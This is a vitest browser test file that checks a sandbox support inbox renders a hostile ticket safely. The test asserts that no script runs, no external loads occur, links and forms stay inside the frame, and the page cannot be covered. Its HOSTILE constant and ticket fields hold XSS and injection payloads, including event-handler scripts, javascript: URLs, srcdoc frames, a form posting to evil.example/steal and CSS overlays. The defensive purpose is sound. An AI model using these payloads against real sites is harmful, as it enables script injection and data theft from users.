/** The sandbox's inbox page in a real browser, with a ticket that attacks whoever reads it. */
import { describe, expect, it } from 'vitest'
import { useInbox } from '../harness/browser/sandbox-inbox.ts'

const { openInbox, desk, page, rows, bodyOf } = useInbox()

const HOSTILE = `</main></body></html>
<script>top.pwned = 'script'; parent.document.title = 'pwned'</script>
<img src="x" onerror="top.pwned = 'onerror'"><svg onload="top.pwned = 'svg'"></svg>
<iframe srcdoc="<script>top.pwned = 'srcdoc'</script>"></iframe>
<iframe src="javascript:top.pwned='frame'"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<form action="https://evil.example/steal" method="post"><input name="q" value="1" autofocus onfocus="top.pwned='focus'"><button>Go</button></form>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/x.css"><img src="https://evil.example/pixel.gif">
<a class="js" href="javascript:top.pwned='link'" target="_self">script</a>
<a class="top" href="https://evil.example/top" target="_top">top</a>
<a class="blank" href="https://evil.example/blank" target="_blank">blank</a>
<style>html, body { position: fixed !important; inset: 0; width: 300vw !important; height: 99999px !important; background: red; z-index: 2147483647 } @import url(https://evil.example/i.css);</style>
<div style="position:fixed;inset:-500px;background:url(https://evil.example/bg.png) red"></div>`

const pwned = () => page().evaluate(() => (globalThis as { pwned?: unknown }).pwned)

describe('hostile HTML', () => {
  const calls: string[] = []

  async function openHostile(): Promise<string> {
    const name = '<img src=x onerror="window.pwned=1">'
    const { ulid } = await desk().ticket({ subject: `<script>pwned=1</script>${name}`, name, body: HOSTILE })
    await openInbox()
    calls.length = 0
    await page()
      .context()
      .route(/evil\.example/, (route) => {
        calls.push(route.request().url())
        return route.fulfill({ status: 200, body: 'evil' })
      })
    await rows().first().click()
    await page().locator('.message iframe').waitFor()
    await bodyOf(0).locator('a.js').waitFor()
    return ulid
  }

  it('runs no script, loads nothing from elsewhere, and shows names and subjects as text', async () => {
    await openHostile()
    expect(await pwned()).toBeUndefined()
    expect(await page().title()).toBe('Sandbox inbox')
    expect(calls).toEqual([])
    expect(await page().locator('#subject').innerText()).toContain('<script>pwned=1</script>')
    expect(await page().locator('#pane img, #tickets img, #pane script').count()).toBe(0)
  })

  it('does not follow its links and forms out of the frame', async () => {
    await openHostile()
    const popups: unknown[] = []
    page()
      .context()
      .on('page', (popup) => popups.push(popup))
    for (const link of ['a.js', 'a.top', 'a.blank', 'form button']) {
      await bodyOf(0).locator(link).dispatchEvent('click')
    }
    await bodyOf(0)
      .locator('form')
      .evaluate((form) => (form as HTMLFormElement).requestSubmit())
    // An answer of the server after the clicks shows that the page was not left.
    await page().getByRole('button', { name: 'Tokens & IDs' }).click()
    await page().getByRole('dialog').getByText('sandbox-member').waitFor()
    expect(page().url()).toMatch(/\/sandbox#/)
    expect([await pwned(), popups, calls]).toEqual([undefined, [], []])
  })

  it('cannot cover the page or push the answer box out of reach', async () => {
    await openHostile()
    const frame = page().locator('.message iframe')
    await expect.poll(async () => (await frame.boundingBox())?.height).toBeLessThanOrEqual(1600)
    const overlaps = await page().evaluate(() =>
      ['h1', '#search', '#open-faults', '#subject', '#status'].filter((selector) => {
        const element = document.querySelector(selector)!
        const { x, y, width, height } = element.getBoundingClientRect()
        return !element.contains(document.elementFromPoint(x + width / 2, y + height / 2))
      }),
    )
    expect(overlaps).toEqual([])
    await page().locator('#text').fill('still here')
  })

  it('does nothing either when its address is opened without the frame', async () => {
    const ulid = await openHostile()
    const [message] = (await desk().api('GET', `/tickets/${ulid}`)).json.data.messages
    await page().goto(`${desk().origin}/sandbox/messages/${message.ulid}`)
    await page().locator('a.js').dispatchEvent('click')
    expect(await pwned()).toBeUndefined()
    expect(page().url()).toContain(message.ulid)
    expect(calls).toEqual([])
  })
})
